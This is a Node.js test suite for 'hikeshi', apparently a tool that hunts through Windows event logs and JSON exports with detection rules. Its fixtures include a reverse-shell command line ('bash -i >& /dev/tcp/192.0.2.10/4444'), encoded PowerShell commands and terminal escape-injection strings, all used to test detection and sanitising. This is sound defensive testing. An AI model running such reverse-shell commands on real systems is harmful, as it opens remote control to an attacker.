// hikeshi hunt over every form of input, and what it prints.

import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';

import { makeEvtx } from './evtx.mjs';
import { english, environment, file, folder, HARMLESS, HIKESHI, hikeshi, lines, objects, rule, RULES, SHELL, SHELL_RULE, shell, started, terminal } from './program.mjs';

const TIME = Date.parse('2026-11-21T01:02:03.456Z');
const encoded = 'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIABoAGUAbABsAG8AIAB3AG8AcgBsAGQA';
const windows = [
	{ provider: 'Microsoft-Windows-Sysmon', id: 1, channel: 'Microsoft-Windows-Sysmon/Operational',
		data: { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: encoded, User: 'SHOTEN\\田中' } },
	{ provider: 'Microsoft-Windows-Security-Auditing', id: 4624, channel: 'Security', data: { TargetUserName: 'tanaka' } },
	{ provider: 'Microsoft-Windows-Eventlog', id: 1102, channel: 'Security', data: {} },
	{ provider: 'Service Control Manager', id: 7045, channel: 'System',
		data: { ServiceName: 'x', ImagePath: '%COMSPEC% /c powershell -e AAAA' } },
].map((event) => ({ time: TIME, computer: 'PC-1.shoten.example', ...event }));
const windowsFound = [
	[1, '430e020f-85a3-52b3-bd3f-4b9eb0d38ace'],
	[3, 'fcc2a123-8a60-5725-84f6-e48d93079af1'],
	[4, 'b6c5479c-c9e9-55a2-8d20-2e159f4e765d'],
];

/** The same as an exporter of EVTX writes it. */
const exported = windows.map((event, i) => ({ Event: {
	System: { Provider: { '#attributes': { Name: event.provider } }, EventID: event.id,
		TimeCreated: { '#attributes': { SystemTime: new Date(event.time).toISOString() } },
		EventRecordID: i + 1, Channel: event.channel, Computer: event.computer },
	EventData: event.data,
} }));
const pretty = (object) => JSON.stringify(object, null, 2);

const own = ['hunt', '--rules', RULES, '--quiet'];
const ndjson = [...own, '--output', 'ndjson'];
const found = (out) => objects(out).map((line) => [line.record, line.rule.id]);

test('each form of input gives the same', async (t) => {
	const forms = [
		['evtx', 'a.evtx', makeEvtx([windows.slice(0, 2), windows.slice(2)])],
		['a line each', 'a.ndjson', exported.map((event) => JSON.stringify(event)).join('\n')],
		['one after another', 'a1.json', exported.map(pretty).join('\n')],
		['one after another, nothing between', 'a2.json', exported.map((event) => JSON.stringify(event)).join('')],
		['an array', 'a3.json', pretty(exported)],
		['an array on one line', 'a4.json', JSON.stringify(exported)],
		['with a byte order mark and Windows line ends', 'a.jsonl', `\ufeff${exported.map((event) => JSON.stringify(event)).join('\r\n')}\r\n`],
	];
	for (const [name, at, content] of forms) {
		await t.test(name, () => {
			const path = file(`forms/${at}`, content);
			const done = english(0, [...ndjson, path]);
			assert.deepEqual(found(done.out), windowsFound);
			assert.ok(objects(done.out).every((line) => line.file === path && line.time === '2026-11-21T01:02:03.456000Z'),
				done.out);
			assert.equal(done.err, '');
			assert.deepEqual(found(english(0, [...ndjson, '-'], { input: content }).out), windowsFound, 'by standard input');
		});
	}
});

test('a detection is one object of exactly this shape', () => {
	const path = file('shape.ndjson', [HARMLESS, { ...SHELL, Japanese: '日本', Many: ['a', 'b'], Nested: { a: 1 } }]);
	const { out } = english(0, [...ndjson, path]);
	assert.match(out, /^\{"file":.*,"record":2,"time":"2026-11-21T01:02:03.456789Z","rule":\{"id":.*,"title":.*,"level":.*\},"event":\{.*\}\}\n$/);
	const [line] = objects(out);
	assert.deepEqual(Object.keys(line), ['file', 'record', 'time', 'rule', 'event']);
	assert.deepEqual(Object.keys(line.rule), ['id', 'title', 'level']);
	const { hikeshi: envelope, ...fields } = line.event;
	assert.equal(line.file, path);
	assert.deepEqual(line.rule, SHELL_RULE);
	assert.equal(envelope.category, 'process_creation');
	assert.deepEqual(fields, { Image: SHELL.Image, CommandLine: SHELL.CommandLine, Japanese: '日本', Many: ['a', 'b'], 'Nested.a': 1 });
	assert.equal(english(0, [...own, '--json', path]).out, out, '--json is the same');
});

test('an event that does not say when has no time', () => {
	const event = { ...SHELL, hikeshi: { product: 'linux', category: 'process_creation' } };
	const path = file('timeless.ndjson', [event]);
	assert.equal(objects(english(0, [...ndjson, path]).out)[0].time, null);
	assert.match(english(0, [...own, path]).out, /^- {21}critical /);
});

test('an event that several rules match comes once for each, whole each time', () => {
	const event = started('/tmp/x/bash', SHELL.CommandLine);
	const list = objects(english(0, [...ndjson, file('several.ndjson', [event, SHELL])]).out);
	assert.deepEqual(list.map((line) => [line.record, line.rule.title]).sort(), [
		[1, 'Program Run From A Temporary Folder'], [1, SHELL_RULE.title], [2, SHELL_RULE.title]].sort());
	assert.deepEqual(list[0].event, list[1].event);
	assert.equal(list[2].event.Image, SHELL.Image);
});

test('folders are searched in the order of names, links in them are not followed', () => {
	mkdirSync(join(folder, 'outside'));
	file('outside/o.ndjson', [SHELL]);
	file('tree/b/2.NDJSON', [SHELL]);
	file('tree/a/1.jsonl', [SHELL]);
	file('tree/c.json', [SHELL]);
	file('tree/notes.txt', 'no events');
	file('tree/.hidden.ndjson', [SHELL]);
	symlinkSync(join(folder, 'outside'), join(folder, 'tree/link'));
	symlinkSync(join(folder, 'tree'), join(folder, 'to-tree'));
	const names = (done, root) => objects(done.out).map((line) => line.file.replace(`${join(folder, root)}/`, ''));
	const all = ['.hidden.ndjson', 'a/1.jsonl', 'b/2.NDJSON', 'c.json'];
	assert.deepEqual(names(english(0, [...ndjson, join(folder, 'tree')]), 'tree'), all);
	assert.deepEqual(names(english(0, [...ndjson, join(folder, 'to-tree')]), 'to-tree'), all, 'a link that is named itself');
	assert.deepEqual(names(english(0, [...ndjson, join(folder, 'tree/c.json'), join(folder, 'tree')]), 'tree'), ['c.json', ...all]);
});

test('several --rules add up, a rule named twice counts once', () => {
	const one = file('more/one.yml', rule('One', '    s:\n        Image|endswith: /ls\n    condition: s', { level: 'low' }));
	const two = file('more/two.yml', rule('Two', '    s:\n        CommandLine|contains: "-l"\n    condition: s', { level: 'medium' }));
	const path = file('rules.ndjson', [HARMLESS]);
	const titles = (...rules) => objects(english(0, ['hunt', '--quiet', '--json', ...rules.flatMap((r) => ['--rules', r]), path]).out)
		.map((line) => line.rule.title).sort();
	assert.deepEqual(titles(one), ['One']);
	assert.deepEqual(titles(one, two), ['One', 'Two']);
	assert.deepEqual(titles(one, join(folder, 'more'), one), ['One', 'Two']);
});

test('the rules that come with the program are the default', () => {
	const done = hikeshi(['--lang', 'en', 'hunt', '--json', file('default.ndjson', [SHELL])]);
	assert.equal(done.status, 0, done.err);
	assert.deepEqual(objects(done.out).map((line) => line.rule), [SHELL_RULE]);
	assert.match(done.err, /^\d\d+ rules; 1 files, 1 events in /);
});

test('the table', async (t) => {
	const path = file('table.ndjson', [{ ...SHELL, Computer: 'pc-1' }]);
	await t.test('in English', () => {
		const done = english(0, ['hunt', '--rules', RULES, path]);
		assert.equal(done.out, '2026-11-21 01:02:03Z  critical       Reverse Shell Command Line  @pc-1\n'
			+ `    ${path}:1  bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n`);
		assert.match(done.err, /^\d+ rules; 1 files, 1 events in \d+\.\d s \(\d+ events\/s\); 1 detections\nComputers with detections: 1\n  critical +1  ■+\n\nTactic \(ATT&CK\) .*\n  Execution +1\n  Command and Control +1\n\nMost frequent\n +1  critical +Reverse Shell/m);
	});
	await t.test('in Japanese, in columns', () => {
		const done = hikeshi(['hunt', '--rules', RULES, path]);
		assert.equal(done.status, 0, done.err);
		assert.equal(done.out, '2026-11-21 01:02:03Z  重大  外部から遠隔操作するための接続（リバースシェル）  @pc-1\n'
			+ `    ${path}:1  bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n`);
		assert.match(done.err, /^ルール \d+ 個、ファイル 1 個、イベント 1 件を .* 秒で検査（毎秒 \d+ 件）、検知 1 件\n検知のあったコンピューター: 1 台\n  重大 +1  ■+\n/);
	});
	await t.test('by the environment', () => {
		assert.match(hikeshi(['hunt', '--rules', RULES, path], { env: { LANG: 'en_US.UTF-8' } }).out, /Reverse Shell/);
		assert.match(hikeshi(['--lang=ja', 'hunt', '--rules', RULES, path], { env: { LANG: 'en_US.UTF-8' } }).out, /リバースシェル/);
	});
	await t.test('--quiet says nothing beside it', () => assert.equal(english(0, [...own, path]).err, ''));
});

test('colours only on a terminal that wants them', () => {
	const path = file('colour.ndjson', [SHELL]);
	const line = `${HIKESHI} --lang en ${[...own, path].join(' ')}`;
	assert.match(terminal(line).out, /\u001b\[1;97;41mcritical +\u001b\[0m {2}Reverse/);
	assert.doesNotMatch(terminal(line, { NO_COLOR: '1' }).out, /\u001b/);
	assert.doesNotMatch(shell(line).out, /\u001b/);
});

test('--min-level leaves out what is lower', () => {
	const path = file('levels.ndjson', [SHELL, started('/tmp/x', '/tmp/x')]);
	const count = (level) => lines(english(0, [...ndjson, '--min-level', level, path]).out).length;
	assert.deepEqual(['informational', 'low', 'medium', 'high', 'critical'].map(count), [2, 2, 2, 1, 1]);
});

test('--fail-level makes something found an exit status', () => {
	const medium = file('medium.ndjson', [started('/tmp/x', '/tmp/x')]), none = file('none.ndjson', [HARMLESS]);
	english(0, [...own, medium]);
	english(1, [...own, '--fail-level', 'medium', medium]);
	english(1, [...own, '--fail-level=low', medium]);
	english(0, [...own, '--fail-level', 'high', medium]);
	english(0, [...own, '--fail-level', 'low', none]);
	/* What was found counts whatever could not be read; that nothing was found does not. */
	english(1, [...own, '--fail-level', 'medium', medium, join(folder, 'absent')]);
	english(66, [...own, '--fail-level', 'medium', none, join(folder, 'absent')]);
});

test('options may stand behind the files, and -- ends them', () => {
	const path = file('-odd.ndjson', [SHELL]);
	assert.equal(lines(english(0, ['hunt', path, '--json', '--quiet', '--rules', RULES]).out).length, 1);
	assert.equal(objects(english(0, [...ndjson, '--', '-odd.ndjson']).out)[0].file, '-odd.ndjson');
});

test('a wrong call is told', async (t) => {
	for (const [args, words] of [
		[[], /which files/], [['--rules'], /--rules needs a value/], [['--output', 'xml', 'x'], /'xml'/],
		[['--min-level', 'grave', 'x'], /'grave' is no level/], [['--fail-level=', 'x'], /'' is no level/],
		[['--frob', 'x'], /there is no option '--frob'/], [['-x', 'x'], /'-x'/], [['--quiet=yes', 'x'], /'--quiet=yes'/],
		[[...Array(65)].flatMap(() => ['--rules', 'x']).concat('x'), /more than 64 times --rules/],
	]) {
		await t.test(`hunt ${args.slice(0, 3).join(' ')}`, () => {
			const done = english(2, ['hunt', ...args]);
			assert.match(done.err, words);
			assert.match(done.err, /hikeshi hunt --help/);
			assert.equal(done.out, '');
		});
	}
});

test('hostile text does not reach the terminal', async (t) => {
	const evil = 'a\u001b]0;title\u0007b\u001b[2Jc\rd\u0085e\u009b31mf\u007fg\u202eh\u2066i\u2028j\bk\nl';
	const control = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
	const ugly = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/;
	const event = { ...started(`/tmp/${evil}`, `${evil} >& /dev/tcp/1.2.3.4/1`), Computer: evil };
	const name = 'evil\u001b[31m\u009b.ndjson';
	file(`evil/${name}`, [event]);
	const rules = file('evil-rule.yml', rule(`"Evil \\e[31m \\x9b ${'title'}"`, '    s:\n        CommandLine|contains: tcp\n    condition: s'));
	const all = ['hunt', '--rules', RULES, '--rules', rules, join(folder, 'evil')];

	await t.test('in the table', () => {
		const done = english(0, all);
		assert.ok(!ugly.test(done.out), JSON.stringify(done.out));
		assert.equal(lines(done.out).length, 6, 'two lines for each of three rules');
		assert.match(done.out, /a\.\]0;title\.b\.\[2Jc d\.e\.31mf\.g\.h\.i\.j\.k l >& /);
	});
	await t.test('in NDJSON, which means the same', () => {
		const done = english(0, [...all, '--json', '--quiet']);
		assert.ok(!control.test(done.out), JSON.stringify(done.out));
		assert.ok(objects(done.out).every((line) => line.event.CommandLine === event.CommandLine && line.file.endsWith(name)));
	});
	await t.test('in errors', () => {
		const done = hikeshi(['--lang', 'en', 'hunt', '--rules', RULES, join(folder, `absent${evil}`)]);
		assert.equal(done.status, 66);
		assert.ok(!ugly.test(done.err), JSON.stringify(done.err));
		const broken = file(`evil2/${name}`, ['{"a":\u001b[31m}', SHELL]);
		assert.ok(!ugly.test(english(65, ['hunt', '--rules', RULES, broken]).err));
	});
	await t.test('in names that are no UTF-8', () => {
		const path = Buffer.concat([Buffer.from(`${folder}/raw-`), Buffer.from([0x9b, 0xff]), Buffer.from('.ndjson')]);
		writeFileSync(path, `${JSON.stringify(SHELL)}\n`);
		const done = shell(`"$HIKESHI" hunt --rules ${RULES} --quiet raw-*`);
		assert.match(done.out, /raw-\.\.\.ndjson:1 /);
		assert.equal(objects(shell(`"$HIKESHI" hunt --rules ${RULES} --quiet --json raw-*`).out)[0].file, 'raw-\ufffd\ufffd.ndjson');
	});
});

test('who reads may stop reading', async (t) => {
	const many = file('many.ndjson', Array.from({ length: 5000 }, () => SHELL));
	for (const [name, before] of [['as usual', ''], ['where the signal is ignored', 'trap "" PIPE; ']]) {
		await t.test(name, () => {
			const done = shell(`${before}"$HIKESHI" --lang en hunt --rules ${RULES} --json ${many} | head -n 1`);
			assert.equal(lines(done.out).length, 1);
			assert.equal(done.err, '');
		});
	}
	await t.test('a full disk is told', () => {
		const done = shell(`"$HIKESHI" --lang en hunt --quiet --rules ${RULES} --json ${many} > /dev/full`);
		assert.equal(done.status, 74);
		assert.match(done.err, /^hikeshi: not all of the results could be written\n/);
	});
});

test('standard input is searched as it comes', async () => {
	const child = spawn(HIKESHI, ndjson.concat('-'), { stdio: ['pipe', 'pipe', 'inherit'], env: environment });
	const first = new Promise((done) => child.stdout.once('data', done));
	child.stdin.write(`${JSON.stringify(SHELL)}\n${JSON.stringify(HARMLESS)}\n`);
	assert.equal(JSON.parse(await first).record, 1, 'before the end of the input');
	child.stdin.end();
	assert.equal(await new Promise((done) => child.once('close', done)), 0);
});

test('progress on a terminal is taken away before something is printed', () => {
	const many = file('progress.ndjson', [...Array.from({ length: 600 }, () => HARMLESS)]);
	const one = file('progress-1.ndjson', [SHELL]);
	const feed = `(cat ${many}; sleep 0.3; cat ${many}; cat ${one})`;
	const { out } = terminal(`${feed} | ${HIKESHI} --lang en hunt --rules ${RULES} --json -`);
	assert.match(out, /Events {2}[\d,]+ {2}[\d,]+\/s\u001b\[K\r\u001b\[K\{"file":/);
	const quiet = terminal(`${feed} | ${HIKESHI} --lang en ${[...ndjson, '-'].join(' ')}`);
	assert.doesNotMatch(quiet.out, /\u001b/);
});

test('a file that is searched is not changed', () => {
	const path = file('same.evtx', makeEvtx([windows]));
	const before = readFileSync(path);
	english(0, [...own, path]);
	assert.deepEqual(readFileSync(path), before);
});
